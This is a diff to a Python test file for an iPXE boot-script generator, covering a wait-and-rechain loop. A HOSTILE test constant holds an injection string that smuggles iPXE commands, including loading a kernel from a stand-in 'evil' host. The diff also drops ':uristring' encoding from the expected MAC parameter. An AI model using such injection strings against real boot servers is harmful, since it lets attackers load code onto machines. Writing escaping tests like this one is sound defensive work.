@@ -16,7 +16,7 @@ HOSTILE = "x || kernel http://evil/ && boot ; ${net0/mac} # \n#!ipxe\nboot\r\x1b
 
 
 def lines(answer: BootAnswer, platform: str = "pcbios") -> list[str]:
-    text = script(answer, master=MASTER, token=TOKEN, platform=platform, consoles="console=tty0 console=ttyS0,115200")
+    text = script(answer, url=MASTER, token=TOKEN, platform=platform, consoles="console=tty0 console=ttyS0,115200")
     return text.splitlines()
 
 
@@ -36,7 +36,7 @@ def test_a_local_boot_leaves_efi_to_its_boot_order_and_shows_bios_the_disk() -> 
 def test_waiting_asks_again_for_ever() -> None:
     found = lines(WaitInLine("3 before you", 7))
     assert found[1:4] == [":wait", "echo vcrecon: 3 before you", "sleep 7 ||"]
-    assert found[4].startswith(f"chain --replace {MASTER}/boot.ipxe?mac=${{netX/mac:uristring}}&")
+    assert found[4].startswith(f"chain --replace {MASTER}/boot.ipxe?mac=${{netX/mac}}&")
     assert found[4].endswith(" || goto wait")
 
 
